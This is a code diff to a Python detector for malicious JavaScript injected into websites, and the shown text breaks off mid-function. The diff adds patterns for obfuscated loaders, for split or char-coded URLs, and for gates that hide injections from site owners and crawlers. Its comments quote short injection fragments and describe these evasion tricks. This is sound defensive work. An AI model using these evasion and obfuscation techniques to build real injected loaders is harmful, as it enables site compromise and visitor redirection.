@@ -17,13 +17,20 @@ neither the page's site, nor a sister site, nor in the bundled list of common th
 hosts (``detector/data/known_hosts.txt``), under a search-engine or user-agent condition.
 
 Obfuscators that encode every literal are read by resolving the code in place
-(:func:`resolve_code`): escapes decoded, printable char-code arrays turned into strings wherever
-they stand, ``table[index]`` lookups replaced by the table's entries, computed members written
-as properties; when lookups cannot be resolved cheaply, an encoded string table's words stand
-for the code's vocabulary (:func:`vocabulary_intent`). An action found this way is graded by how
-many independent signals agree (:func:`resolved_tier`): the hidden target, the gates injected
-code puts around its action (visitors from a search engine, a crawler test on the user agent, a
-once-per-visitor cookie or storage marker, a delay: :func:`_gates`), and a throwaway-looking host.
+(:func:`resolve_code`): escapes decoded, printable char-code arrays (and short
+``String.fromCharCode(...)`` words) turned into strings wherever they stand, ``table[index]``
+lookups replaced by the table's entries, string pieces joined (``[...].join('')``, ``p.join('')``,
+``''.concat(...)``, ``'<scr'+'ipt'``), computed members written as properties; a value used
+away from its literal is traced back through variables, decoding loops and the arguments of an
+immediately invoked function (:class:`_Tracer`); when lookups cannot be resolved cheaply, an
+encoded string table's words stand for the code's vocabulary (:func:`vocabulary_intent`). An
+action found this way is graded by how many independent signals agree (:func:`agreement`,
+:func:`resolved_tier`): the hidden target (its domain nowhere in the code as written), the gates
+injected code puts around its action (visitors from a search engine, a crawler test, a login
+cookie test that skips the site's owner, a once-per-visitor cookie or storage marker, a delay, a
+phones-only test: :func:`_gates`), a throwaway-looking host, a URL that passes for a popular
+library's (``jquery.min.js`` on an unlisted host), and, only next to one of those, a
+once-per-page window flag or a URL that reports the visited page or referrer.
 
 Cost: script bodies are only searched after cheap substring prefilters; JSON, templates and
 other non-executable script types are skipped; very large bodies (bundles) are inspected at
@@ -263,6 +270,24 @@ _META_REFRESH = rx(
     re.IGNORECASE,
     worst_case="0;url=",
 )
+# document[_0x1a[0]]('script'): createElement called through a computed member (not followed
+# by [0], which is getElementsByTagName's result)
+_COMPUTED_CREATE = rx(
+    "SEO302.computed_create",
+    r"""\bdocument\s{0,40}+\[\s{0,40}+(?:[^\[\]\n]|\[[^\[\]\n]{0,40}+\]){1,80}+\]\s{0,40}+\(\s{0,40}+["'](script|iframe)["']\s{0,40}+\)"""
+    r"""(?!\s{0,40}+\[)""",
+    worst_case="document[a",
+)
+# a tag written with its src taken from a variable: '<script src="' + u + '">'
+_WRITE_VAR = rx(
+    "SEO302.write_var",
+    r"""<\s*+(script|iframe|frame|embed|object)\b[^>]{0,400}?\bsrc\s*+=\s*+\\?+["']?+\s*+["'`]\s*+\+\s*+""",
+    re.IGNORECASE,
+    worst_case="<script src=",
+)
+# an element's source set: e.src = ... | e.setAttribute('src', ...
+_SRC_SET = rx("SEO302.src_set", r"""\.\s{0,40}+src\s{0,40}+=(?!=)|setAttribute\(\s{0,40}+["']src["']\s{0,40}+,""",
+              worst_case=".src ")
 _HTML_OPEN = rx("SEO302.html_open", r"<html\b", re.IGNORECASE, worst_case="<htm")
 _HTML_CLOSE = rx("SEO302.html_close", r"</html\s*+>", re.IGNORECASE, worst_case="</html ")
 _TAGS_IN_JS = rx("SEO302.tags_in_js", r"<(?:script|iframe|frame|embed|object)\b", re.IGNORECASE, worst_case="<scrip")
@@ -367,10 +392,12 @@ def decode_layers(js: str) -> tuple[list[str], list[str]]:
 # which would move a literal's end), printable char-code arrays (8 or more codes) turned into
 # string literals wherever they stand, ``table[index]`` replaced by the table's entry (also
 # through a one-line accessor ``function(i){i=i-OFFSET;return table[i]}`` and an array
-# rotated by a literal count), and ``obj['name']`` written ``obj.name``. What cannot be resolved
-# cheaply (checksum-driven rotations, string concatenation at run time) is still judged by the
-# table's *vocabulary*: an encoded URL of a foreign host next to the words of an action
-# (createElement/script/src/appendChild, write, location/replace/href).
+# rotated by a literal count), string pieces joined (``['https://','x.','top'].join('')``, an array
+# of pieces joined by name, ``''.concat(...)``, literals glued with ``+`` when a URL or a tag name
+# is cut), and ``obj['name']`` written ``obj.name``. What cannot be resolved cheaply
+# (checksum-driven rotations, arithmetic on codes) is still judged by the table's *vocabulary*: an
+# encoded URL of a foreign host next to the words of an action (createElement/script/src/
+# appendChild, write, location/replace/href).
 
 _CODE_NUM = r"(?:0[xX][0-9a-fA-F]{1,4}+|\d{1,5}+)"
 _CODE_ARRAY = rx(
@@ -389,8 +416,19 @@ _CODE_STRING = rx(
     r"""(['"])((?:\d{1,5}+[,;| ]){7,}+\d{1,5}+)\1""",
     worst_case="'1,",
 )
+# String.fromCharCode(115,99,114,105,112,116): a short word (a tag name, a cookie name) spelled
+# in codes, replaced by the literal as a whole (the 8-code minimum of _CODE_ARGS is for bare lists)
+_FCC_CALL = rx(
+    "SEO301.fromcharcode_call",
+    r"\bString\s{0,40}+\.\s{0,40}+fromCharCode\s{0,40}+\(\s{0,40}+((?:" + _CODE_NUM + r"\s{0,40}+,\s{0,40}+){1,600}+"
+    + _CODE_NUM + r")\s{0,40}+\)",
+    worst_case="String.fromCharCode(1,",
+)
 # a URL's scheme or host cut in two literals ('htt'+'ps://', 'https://ex'+'ample.top')
 _SPLIT_TAIL = rx("SEO301.split_tail", r"""(?:\bh(?:t{1,2}+p?+s?+:?+/{0,2}+)?+|//[\w.-]{0,60}+)\Z""", worst_case="//a")
+# a tag name cut in two literals ('<scr'+'ipt src="'+u+'">'): legitimate document.write loaders
+# do it too, so it only lets resolve_code join the pieces, never counts as a signal
+_SPLIT_TAG_TAIL = rx("SEO301.split_tag_tail", r"""</?+[A-Za-z]{1,8}+\Z""", worst_case="<a")
 
 
 def _near_ends(js: str, found) -> bool:
@@ -412,15 +450,16 @@ def _code_array_near_ends(js: str) -> bool:
     return _near_ends(js, lambda s, lo, hi: _CODE_ARRAY.search(s, lo, hi) is not None)
 
 
-def _split_url(js: str) -> bool:
-    """Whether a URL's scheme or host is cut between two literals ('htt'+'ps://', '//ex'+'ample.top')."""
+def _split_url(js: str, tail: re.Pattern = _SPLIT_TAIL) -> bool:
+    """Whether a URL's scheme or host is cut between two literals ('htt'+'ps://', '//ex'+'ample.top')
+    (`tail` = _SPLIT_TAG_TAIL: a tag name, '<scr'+'ipt')."""
     for sep in _SPLIT_SEPS:
         pos = 0
         for _ in range(100):  # str.find jumps between the (few) joins at C speed
             i = js.find(sep, pos)
             if i < 0:
                 break
-            if _SPLIT_TAIL.search(js, max(0, i - 70), i):
+            if tail.search(js, max(0, i - 70), i):
                 return True
             pos = i + len(sep)
     return False
@@ -438,14 +477,40 @@ _CHAR_LIST_JOIN = rx(
 _CHAR_ITEM = rx("SEO301.char_item", r"'([^'\\\n]{0,3}+)'|\"([^\"\\\n]{0,3}+)\"", worst_case="'a")
 _ATOB_SHORT = rx("SEO301.atob_short", r"""\batob\s{0,40}+\(\s{0,40}+['"]([A-Za-z0-9+/]{4,4000}+={0,2}+)['"]\s{0,40}+\)""",
                  worst_case="atob('AAAA")
-# 'ht' + 'tp://ex' + "ample.top": literals joined at run time
+# 'ht' + 'tp://ex' + "ample.top": literals joined at run time (a single-quoted piece may hold
+# double quotes and the reverse: '<scr' + 'ipt src="')
 _CONCAT_PAIR = rx(
     "SEO301.concat_pair",
-    r"""(?:'([^'"\\\n]{0,300}+)'|"([^'"\\\n]{0,300}+)")\s{0,40}+\+\s{0,40}+(?:'([^'"\\\n]{0,300}+)'|"([^'"\\\n]{0,300}+)")""",
+    r"""(?:'([^'\\\n]{0,300}+)'|"([^"\\\n]{0,300}+)")\s{0,40}+\+\s{0,40}+(?:'([^'\\\n]{0,300}+)'|"([^"\\\n]{0,300}+)")""",
     worst_case="'a'+",
 )
 _STR_ENTRY = r"""(?:'(?:[^'\\\n]|\\.){0,800}+'|"(?:[^"\\\n]|\\.){0,800}+")"""
 _STR_ENTRY_RX = rx("SEO301.string_entry", _STR_ENTRY, worst_case="'\\'")
+# ['https://', 'cdn-x.', 'top', '/a.js'].join(''): a URL kept in pieces (often each one escaped)
+_PIECES_JOIN = rx(
+    "SEO301.pieces_join",
+    r"\[\s{0,40}+(" + _STR_ENTRY + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){1,60}+)\s{0,40}+,?+\s{0,40}+\]"
+    r"""\s{0,40}+\.\s{0,40}+join\(\s{0,40}+(?:''|"")\s{0,40}+\)""",
+    worst_case="['',",
+)
+# var p = ['https://', 'cdn-x.', 'top']; ... p.join(''): the same, the array named
+_PIECES_ARRAY = rx(
+    "SEO301.pieces_array",
+    r"=\s{0,40}+\[\s{0,40}+(" + _STR_ENTRY + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){1,60}+)\s{0,40}+,?+\s{0,40}+\]",
+    worst_case="=['',",
+)
+_NAMED_JOIN = rx(
+    "SEO301.named_join",
+    r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\s{0,40}+\.\s{0,40}+join\(\s{0,40}+(?:''|"")\s{0,40}+\)""",
+    worst_case="a.join(''",
+)
+# ''.concat('https://', 'cdn-x.', 'top'): pieces passed to String.prototype.concat
+_CONCAT_CALL = rx(
+    "SEO301.concat_call",
+    r"(" + _STR_ENTRY + r")\s{0,40}+\.\s{0,40}+concat\(\s{0,40}+(" + _STR_ENTRY
+    + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){0,60}+)\s{0,40}+\)",
+    worst_case="''.concat('',",
+)
 _STRING_TABLE = rx(
     "SEO301.string_table",
     r"=\s{0,40}+\[\s{0,40}+(" + _STR_ENTRY + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){2,600}+)\s{0,40}+,?+\s{0,40}+\]",
@@ -573,8 +638,9 @@ def resolve_code(js: str) -> Resolved | None:
             techs.append("char-code string")
             code = dec
     if "," in code:
-        dec = _CODE_ARGS.sub(lambda m: "fromCharCode(" + arr(m) + ")" if codes_to_text(m.group(1)) else m.group(0), code) \
-            if "fromCharCode" in code else code
+        dec = _FCC_CALL.sub(arr, code) if "fromCharCode" in code else code
+        dec = _CODE_ARGS.sub(lambda m: "fromCharCode(" + arr(m) + ")" if codes_to_text(m.group(1)) else m.group(0), dec) \
+            if "fromCharCode" in dec else dec
         dec = _CODE_ARRAY.sub(arr, dec)
         if dec != code:
             techs.append("char-code array")
@@ -654,10 +720,15 @@ def resolve_code(js: str) -> Resolved | None:
         if dec != code:
             techs.append("base64 strings")
             code = dec
-    if "+" in code and _split_url(code):
+    if (".join(" in code or ".concat(" in code) and ("'" in code or '"' in code):
+        dec = _join_pieces(code, strings)
+        if dec != code:
+            techs.append("string pieces joined")
+            code = dec
+    if "+" in code and (_split_url(code) or (techs and _split_url(code, _SPLIT_TAG_TAIL))):
         dec = code
         for _ in range(6):  # each pass joins pairs: chains of up to 64 pieces
-            nxt = _CONCAT_PAIR.sub(lambda m: "'" + (m.group(1) or m.group(2) or "") + (m.group(3) or m.group(4) or "") + "'", dec)
+            nxt = _CONCAT_PAIR.sub(lambda m: _quote((m.group(1) or m.group(2) or "") + (m.group(3) or m.group(4) or "")), dec)
             if nxt == dec:
                 break
             dec = nxt
@@ -671,6 +742,81 @@ def resolve_code(js: str) -> Resolved | None:
     if not techs:
         return None
     return Resolved(code, techs, strings)
+
+
+def _entries(body: str) -> list[str]:
+    return [_unescape_entry(e.group(0)[1:-1]) for e in _STR_ENTRY_RX.finditer(body)]
+
+
+def _assigned_name(code: str, j: int) -> str:
+    """The variable assigned at `code[j]` (the ``=``), '' for ``obj.prop =`` or ``x[i] =``."""
+    while j > 0 and code[j - 1] in " \t\r\n":
+        j -= 1
+    k = j
+    while k > 0 and j - k < 40 and (code[k - 1].isalnum() or code[k - 1] in "_$"):
+        k -= 1
+    name = code[k:j]
+    if not name or name[0].isdigit() or (k and code[k - 1] == "."):
+        return ""
+    return name
+
+
+def _join_pieces(code: str, strings: list[str]) -> str:
+    """String pieces joined at run time, written as one literal: ``['a','b'].join('')``,
+    ``p.join('')`` of an array of literals, ``''.concat('a','b')``."""
+    def joined(m: re.Match) -> str:
+        text = "".join(_entries(m.group(1)))
+        strings.append(text)
+        return _quote(text)
+
+    dec = _PIECES_JOIN.sub(joined, code) if "].join(" in code or "] .join(" in code else code
+    if ".join(" in dec:
+        # name.join(''): str.find jumps to the (few) joins, the regex reads the name before each
+        names = set()
+        pos = 0
+        for _ in range(8):
+            i = dec.find(".join(", pos)
+            if i < 0:
+                break
+            m = _NAMED_JOIN.search(dec, max(0, i - 45), i + 16)
+            if m:
+                names.add(m.group(1))
+            pos = i + 6
+        arrays: dict[str, str] = {}
+        if names:
+            for m, _ in zip(_PIECES_ARRAY.finditer(dec), range(40)):
+                name = _assigned_name(dec, m.start())
+                if name in names and name not in arrays:
+                    arrays[name] = "".join(_entries(m.group(1)))
+        if arrays:
+            def named(m: re.Match) -> str:
+                text = arrays.get(m.group(1))
+                if text is None:
+                    return m.group(0)
+                strings.append(text)
+                return _quote(text)
+
+            dec = _NAMED_JOIN.sub(named, dec)
+    if ".concat(" in dec:
+        out = []
+        pos = 0
+        for _ in range(8):
+            i = dec.find(".concat(", pos)
+            if i < 0:
+                break
+            close = dec[i - 1] if i else ""
+            # the receiver is a literal: its opening quote is the last one of its kind before it
+            q = dec.rfind(close, max(pos, i - 810), i - 1) if close in ("'", '"') else -1
+            m = _CONCAT_CALL.match(dec, q) if q >= 0 else None
+            if m:
+                out.append(dec[pos:m.start()])
+                out.append(_quote("".join(_entries(m.group(1)) + _entries(m.group(2)))))
+                pos = m.end()
+            else:
+                out.append(dec[pos:i + 8])
+                pos = i + 8
+        dec = "".join(out) + dec[pos:]
+    return dec
 
 
 def _letter_escapes(js: str) -> int:
@@ -703,6 +849,7 @@ class Intent:
     gates: tuple[str, ...] = ()  # conditions around the action (see _gates)
     resolved: bool = False  # found in code whose literals were decoded in place (resolve_code)
     vocabulary: bool = False  # read from an encoded string table's words, not from resolved code
+    disguise: str = ""  # loaders: the URL passes for a popular library's (jquery.min.js on an unlisted host)
 
 
 def _hosts_in(js: str, limit: int = 40) -> list[tuple[str, str, str]]:
@@ -830,20 +977,48 @@ def script_intents(js: str, site: str, tokens: frozenset[str] | None = None, var
         if dom and foreign(site, dom):
             out.append(Intent("writes-resource", f"writes a <{m.group(0)[1:].split()[0].lower()}> from {host}",
                               url, dom, tuple(url_shape(url, host)),
-                              _gates(js[max(0, m.start() - 800):m.end() + 300])))
+                              _gates(js[max(0, m.start() - 800):m.end() + 300])
+                              + _leak_signal(js[m.end():m.end() + 300].split(";", 1)[0]),
+                              disguise=_disguise(url, host)))
         if len(out) >= 5:
             break
-    if has_url and ("createElement" in tokens if tokens is not None else "createElement" in js):
-        m = _find_near(js, ("createElement",), _CREATE_SCRIPT, before=0, after=40)
+    tracer = _Tracer(js, site) if variables else None
+    if variables and tags:
+        # document.write('<script src="' + u + '">') in resolved code: the URL is in a variable
+        for m, _ in zip(_WRITE_VAR.finditer(js), range(10)):
+            expr = _expr_at(js, m.end())
+            tgt = tracer.target(expr, m.start())
+            if tgt:
+                out.append(_loader_intent(f"writes a <{m.group(1).lower()}> from {tgt[1]}", tgt, js, expr,
+                                          _gates(js[max(0, m.start() - 800):m.end() + 300])))
+                break
+    creates = "createElement" in tokens if tokens is not None else "createElement" in js
+    if has_url and (creates or "document[" in js):
+        m = _find_near(js, ("createElement",), _CREATE_SCRIPT, before=0, after=40) if creates else None
+        if m is None and "document[" in js:
+            # document[_0x1a[0]]('script'): the method's name hidden, the tag name plain
+            m = _find_near(js, ("document[",), _COMPUTED_CREATE, before=0, after=200)
         if m:
             window = js[m.start():m.start() + 1500]
             # a literal tag name, or a variable whose element then gets a .src
             if m.group(1) or ".src" in window or "src=" in window:
-                tgt = _foreign_target(window, site)
+                tgt = None
+                stmt = ""
+                if tracer is not None:
+                    # the value given to .src, followed back through variables and parameters
+                    setter = _SRC_SET.search(window)
+                    if setter:
+                        stmt = _expr_at(window, setter.end())
+                        tgt = tracer.target(stmt, m.start() + setter.end())
+                if tgt is None:
+                    tgt = _foreign_target(window, site)
+                    if tgt:
+                        k = window.find(tgt[0])
+                        stmt = window[k:k + 300].split(";", 1)[0]
                 if tgt:
                     what = (m.group(1) or "script").lower()
-                    out.append(Intent("writes-resource", f"creates a <{what}> loading {tgt[1]}",
-                                      tgt[0], tgt[1], tgt[2], _gates(js[max(0, m.start() - 800):m.start() + 1500])))
+                    out.append(_loader_intent(f"creates a <{what}> loading {tgt[1]}", tgt, js, stmt,
+                                              _gates(js[max(0, m.start() - 800):m.start() + 1500])))
     if has_url and ("location" in tokens if tokens is not None else "location" in js):
         for m in _redirect_matches(js):
             after = js[m.end():m.end() + 300]
@@ -854,7 +1029,7 @@ def script_intents(js: str, site: str, tokens: frozenset[str] | None = None, var
                 # a variable: the URL assigned to it before (var u = d("https://..."); location.replace(u))
                 var = _IDENT.match(head)
                 if var and var.end() < len(head) and head[var.end()] in ");, \t}" and var.group(0) not in _NOT_VARS:
-                    tgt = _var_target(js, var.group(0), site, m.start())
+                    tgt = tracer.target(var.group(0), m.start())
                 elif var and head[var.end():var.end() + 1] == "(":
                     # a decoder called right there: location.href = d('https://...')
                     arg = head[var.end() + 1:].lstrip(" \t\"'`")
@@ -907,20 +1082,53 @@ def script_intents(js: str, site: str, tokens: frozenset[str] | None = None, var
 # for visitors who arrive from a search engine (the owner types the address), only when the user
 # agent is not a crawler (the search engine sees the clean page), only once per browser (a cookie
 # or storage marker is checked, then set: whoever looks twice sees nothing), and often after a
-# delay. Each gate alone is common in legitimate code (analytics read the referrer, consent
-# managers set cookies, pages skip work for bots); several around one action to a foreign host
-# agree.
+# delay; WordPress injections skip visitors with a login cookie (the owner), and some act only on
+# phones (the owner checks from a desktop). Each gate alone is common in legitimate code
+# (analytics read the referrer, consent managers set cookies, pages skip work for bots); several
+# around one action to a foreign host agree. A window flag read and set (``if(!window._x)
+# {window._x=1;...}``) and a URL that carries the visited page or referrer are what honest loaders
+# do as well (against double inclusion; counters): they only add to other signals.
 
 _MARKER_SET = rx(
     "SEO303.marker_set",
     r"""cookie\s{0,40}+=(?!=)|setItem\s{0,40}+\(|Storage\s{0,40}+(?:\.\s{0,40}+[\w$]{1,40}+|\[[^\]\n]{1,60}+\])\s{0,40}+=(?!=)""",
     worst_case="Storage.a",
 )
+# a login cookie tested: WordPress injections skip the site's logged-in users (its owner)
+_LOGIN_COOKIE = rx(
+    "SEO303.login_cookie",
+    r"""wordpress_logged_in|wordpress_sec|wp[_-]?+logged|wp-settings-|logged[_-]?+in\b|is_?+admin\b|admin_?+(?:session|logged)""",
+    re.IGNORECASE,
+    worst_case="wp_",
+)
+# a flag on the window read and then set (if(!window._x){window._x=1; ...}): runs once per page
+_WINDOW_FLAG_TEST = rx(
+    "SEO303.window_flag_test",
+    r"""!\s{0,40}+(?:window|self|top)\s{0,40}+\.\s{0,40}+([A-Za-z_$][\w$]{0,40}+)(?![\w$]|\s{0,40}+[(.\[])""",
+    worst_case="!window.a",
+)
+_WINDOW_FLAG_SET = rx(
+    "SEO303.window_flag_set",
+    r"""(?:window|self|top)\s{0,40}+\.\s{0,40}+([A-Za-z_$][\w$]{0,40}+)\s{0,40}+=(?!=)""",
+    worst_case="window.a",
+)
+# the visited page or the referrer put into a loaded URL (?r=' + document.referrer, btoa(location.href))
+_LEAK = rx(
+    "SEO302.leak",
+    r"""referrer|location\s{0,40}+\.\s{0,40}+(?:href|host(?:name)?+)\b|document\s{0,40}+\.\s{0,40}+(?:URL|domain)\b""",
+    worst_case="location.",
+)
 GATE_SEARCH = "visitors from a search engine"
 GATE_CRAWLER = "crawlers told apart"
+GATE_OWNER = "not for the site's logged-in users"
 GATE_ONCE = "once per visitor"
+GATE_PHONES = "phones only"
 GATE_DELAY = "after a delay"
-STRONG_GATES = (GATE_SEARCH, GATE_CRAWLER, GATE_ONCE)
+GATE_FLAG = "once per page (window flag)"
+SIGNAL_LEAK = "reports the visited page or referrer"
+STRONG_GATES = (GATE_SEARCH, GATE_CRAWLER, GATE_OWNER, GATE_ONCE)
+HALF_GATES = (GATE_DELAY, GATE_PHONES)  # hide the action from an owner who looks at once, or from a desktop
+CORROBORATING = (GATE_FLAG, SIGNAL_LEAK)  # common in honest loaders: they only add to other signals
 
 
 def _gates(ctx: str) -> tuple[str, ...]:
@@ -941,32 +1149,96 @@ def _gates(ctx: str) -> tuple[str, ...]:
             break
     if ("userAgent" in ctx or "webdriver" in ctx) and _BOTS.search(_URL_LIT.sub("", ctx) if "//" in ctx else ctx):
         out.append(GATE_CRAWLER)
+    if "cookie" in ctx and _LOGIN_COOKIE.search(ctx):
+        out.append(GATE_OWNER)
     if ("cookie" in ctx or "Storage" in ctx) and ("indexOf" in ctx or "match(" in ctx or "test(" in ctx
                                                    or "getItem" in ctx or "includes(" in ctx or "search(" in ctx
                                                    or "!localStorage" in ctx or "!sessionStorage" in ctx
                                                    or "!window.localStorage" in ctx) and _MARKER_SET.search(ctx):
         out.append(GATE_ONCE)
+    if "userAgent" in ctx and GATE_CRAWLER not in out and _MOBILE.search(ctx):
+        out.append(GATE_PHONES)
     if "setTimeout" in ctx:
         out.append(GATE_DELAY)
+    if "!" in ctx and ("window" in ctx or "self" in ctx or "top" in ctx):
+        tested = {m.group(1) for m, _ in zip(_WINDOW_FLAG_TEST.finditer(ctx), range(8))}
+        if tested and any(m.group(1) in tested for m, _ in zip(_WINDOW_FLAG_SET.finditer(ctx), range(16))):
+            out.append(GATE_FLAG)
     return tuple(out)
 
 
+def _leak_signal(stmt: str) -> tuple[str, ...]:
+    """SIGNAL_LEAK when the statement that gives a loader its URL adds the visited page or the
+    referrer (a traffic broker choosing a payload per site and per search)."""
+    return (SIGNAL_LEAK,) if stmt and _LEAK.search(stmt) else ()
+
+
+# host labels that pass for a library's CDN (static-cdn-jquery.xyz)
+_LIBRARY_WORDS = frozenset(("jquery", "bootstrap", "angular", "lodash", "modernizr", "swfobject", "gtag", "fbevents"))
+
+
+def _full_url(text: str, url: str) -> str:
+    """`url` (a scheme and host) with the path that follows it in `text`."""
+    j = text.find(url) if url else -1
+    if j < 0:
+        return url
+    m = _URL_REST.match(text, j + len(url))
+    return text[j:m.end()]
+
+
+def _disguise(url: str, host: str) -> str:
+    """How a loaded URL passes for a popular library's or tag's: its file name (``jquery.min.js``,
+    ``ga.js``) or its host's name (``static-cdn-jquery.xyz``). Only asked of unrelated hosts that
+    are not in the known-hosts list, which is where sites load these from."""
+    rest = url.split("//", 1)[-1]
+    slash = rest.find("/")
+    path = rest[slash:].split("?", 1)[0].split("#", 1)[0] if slash >= 0 else ""
+    m = _LIBRARY_NAME.search(path) if path.endswith(".js") else None
+    if m:
+        return f"named like the {m.group(1).lower()} library"
+    label = split_host(host)[1] if host else ""
+    for word in label.replace("-", " ").replace("_", " ").split():
+        if word in _LIBRARY_WORDS or word.startswith("jquery"):
+            return f"host named after {word}"
+    return ""
+
+
+def _loader_intent(detail: str, tgt, js: str, stmt: str, gates: tuple[str, ...]) -> Intent:
+    """A writes-resource intent, with the signals of its URL (a leak of the page, a disguise)."""
+    url, dom, shape = tgt
+    host = host_of(url if url[:4].lower() == "http" else "http:" + url) or dom
+    return Intent("writes-resource", detail, url, dom, shape, gates + _leak_signal(stmt),
+                  disguise=_disguise(_full_url(js, url), host))
+
+
 def agreement(it: "Intent") -> float:
-    """How many independent signals agree on an action to a foreign host: strong gates and a
-    throwaway-looking host (1 each; 1.5 for a raw IP, an odd port or spam words in the name),
-    a delay (half)."""
+    """How many independent signals agree on an action to a foreign host.
+
+    1 each: a strong gate (visitors from a search engine, a crawler test, a login cookie test,
+    a once-per-visitor cookie or storage marker), a throwaway-looking host (1.5 for a raw IP,
+    an odd port or spam words in the name), a loader whose URL passes for a popular library's.
+    Half: a delay, a phones-only user-agent test. Half, and only next to a full signal: a
+    once-per-page window flag and a URL that reports the visited page or referrer (honest
+    loaders do both).
+    """
     shape = 0.0
     if strong_shape(it.shape):
         shape = 1.5 if any(r.startswith(("raw IP", "port ", "spam vocabulary")) for r in it.shape) else 1.0
-    return sum(g in STRONG_GATES for g in it.gates) + 0.5 * (GATE_DELAY in it.gates) + shape
+    full = sum(g in STRONG_GATES for g in it.gates) + shape + (1.0 if it.disguise else 0.0)
+    n = full + 0.5 * sum(g in HALF_GATES for g in it.gates)
+    if full >= 1:
+        n += 0.5 * sum(g in CORROBORATING for g in it.gates)
+    return n
 
 
 def resolved_tier(it: "Intent") -> tuple[str, str] | None:
     """(severity, confidence) of an action found only once the code's literals were decoded.
 
-    Hiding the target is one signal; the gates and the host's shape are the others. With none
-    of them (a vendor's obfuscated widget loading from its own host) there is no finding; one
-    (an ad network's frequency cap is a once-per-visitor cookie too) is medium; two or more agree.
+    Hiding the target is one signal; the gates, the host's shape and a library-like URL are the
+    others (see :func:`agreement`). With none of them (a vendor's obfuscated widget loading from
+    its own host, even with a window flag or the page's address in its URL) there is no finding;
+    a half signal alone (a delay, a phones-only test) is medium/low; one (an ad network's
+    frequency cap is a once-per-visitor cookie too) is medium; 1.5 high/medium; two or more agree.
     An action read from a table's vocabulary (its lookups not resolved) is capped at high/medium.
     """
     n = agreement(it)
@@ -987,49 +1259,199 @@ def resolved_tier(it: "Intent") -> tuple[str, str] | None:
     return tier
 
 
-def _gate_words(gates) -> str:
-    g = [x for x in gates]
+def _gate_words(gates, disguise: str = "") -> str:
+    g = [x for x in gates] + ([disguise] if disguise else [])
     return f" ({', '.join(g)})" if g else ""
 
 
 _IDENT = rx("SEO303.identifier", r"""[A-Za-z_$][\w$]{0,40}+""", worst_case="a")
 
 
-def _var_target(js: str, ident: str, site: str, before: int) -> tuple[str, str, tuple[str, ...]] | None:
-    """The foreign URL assigned to variable `ident` (``var u = d("https://...")``) before `before`."""
-    pos = 0
-    for _ in range(20):
-        i = js.find(ident, pos, before)
-        if i < 0:
-            return None
-        pos = i + len(ident)
-        if i and (js[i - 1].isalnum() or js[i - 1] in "_$."):
-            continue
-        rest = js[pos:pos + 6].lstrip()
-        if rest[:1] == "=" and rest[1:2] != "=":
-            stmt = js[pos:pos + 400].split(";", 1)[0]
-            tgt = _foreign_target(stmt, site)
-            if tgt:
-                return tgt
-    return None
-
-
 _NOT_VARS = frozenset(("this", "self", "top", "window", "document", "location", "null", "undefined", "true",
                        "false", "new", "function", "return", "void", "typeof"))
+# names a traced value never comes from
+_GLOBALS = _NOT_VARS | frozenset((
+    "String", "Math", "Date", "Array", "Object", "JSON", "Number", "RegExp", "navigator", "screen", "parent",
+    "encodeURIComponent", "encodeURI", "decodeURIComponent", "decodeURI", "escape", "unescape", "btoa", "atob",
+    "parseInt", "arguments", "var", "let", "const", "in", "of", "instanceof", "if", "else",
+))
+# a variable's assignment (``u = ...``, ``u += ...``; not ``==``, ``=>``, ``obj.u =``)
+_ASSIGN = rx("SEO303.assignment", r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\s{0,40}+(\+?+)=(?![=>])""", worst_case="a+")
+# a function's parameters: function f(a, b) { | (a, b) => {
+_FUNC_PARAMS = rx(
+    "SEO303.function_params",
+    r"""\bfunction\b\s{0,40}+[\w$]{0,40}+\s{0,40}+\(([\w$,\s]{0,200}+)\)|\(([\w$,\s]{0,200}+)\)\s{0,40}+=>""",
+    worst_case="function(a,",
+)
+# the arguments an immediately invoked function is called with: })(document, u) | }(document, u))
+_IIFE_CALL = rx("SEO303.iife_call", r"""\}\s{0,40}+\)?+\s{0,40}+\(([^()]{0,300}+)\)""", worst_case="})(")
+
+
+def _expr_at(js: str, i: int, limit: int = 400) -> str:
+    """The expression that starts at js[i]: up to a `;`, `,` or line end at its own level."""
+    depth = 0
+    quote = ""
+    j = i
+    end = min(len(js), i + limit)
+    while j < end:
+        c = js[j]
+        if quote:
+            if c == "\\":
+                j += 2
+                continue
+            if c == quote:
+                quote = ""
+        elif c in "'\"`":
+            quote = c
+        elif c in "([{":
+            depth += 1
+        elif c in ")]}":
+            if depth == 0:
+                break
+            depth -= 1
+        elif depth == 0 and c in ";,\n":
+            break
+        j += 1
+    return js[i:j]
+
+
+def _split_top(expr: str, sep: str) -> list[str]:
+    """`expr` split at `sep` outside literals and brackets."""
+    parts = []
+    depth = 0
+    quote = ""
+    start = 0
+    j = 0
+    while j < len(expr):
+        c = expr[j]
+        if quote:
+            if c == "\\":
+                j += 2
+                continue
+            if c == quote:
+                quote = ""
+        elif c in "'\"`":
+            quote = c
+        elif c in "([{":
+            depth += 1
+        elif c in ")]}":
+            depth -= 1
+        elif depth == 0 and c == sep:
+            parts.append(expr[start:j])
+            start = j + 1
+        j += 1
+    parts.append(expr[start:])
+    return parts
+
+
+class _Tracer:
+    """Follows a value in resolved code back to the literal it is built from.
+
+    Decoded literals seldom stand where they are used: the URL goes into a variable (``var
+    u = '...'``), is appended piece by piece in a decoding loop (``u += String.fromCharCode(a[i])``),
+    or is handed to a function as an argument (``(function(d, u){ s.src = u })(document, q)``).
+    A few hops (assignments before the use, parameters of an immediately invoked function) and a
+    fixed budget: resolved code is short, and only it is traced.
+    """
+
+    def __init__(self, js: str, site: str):
+        self.js = js
+        self.site = site
+        self.budget = 40
+        self._assigns: dict[str, list[tuple[int, bool]]] | None = None
+
+    def assigns(self) -> dict[str, list[tuple[int, bool]]]:
+        if self._assigns is None:
+            out: dict[str, list[tuple[int, bool]]] = {}
+            for m, _ in zip(_ASSIGN.finditer(self.js), range(800)):
+                out.setdefault(m.group(1), []).append((m.end(), m.group(2) == "+"))
+            self._assigns = out
+        return self._assigns
+
+    def target(self, expr: str, pos: int, depth: int = 3) -> tuple[str, str, tuple[str, ...]] | None:
+        """The foreign URL that `expr` (found at `pos`) evaluates to or is built from."""
+        self.budget -= 1
+        if self.budget < 0 or not expr:
+            return None
+        tgt = _foreign_target(expr, self.site)
+        if tgt or depth <= 0:
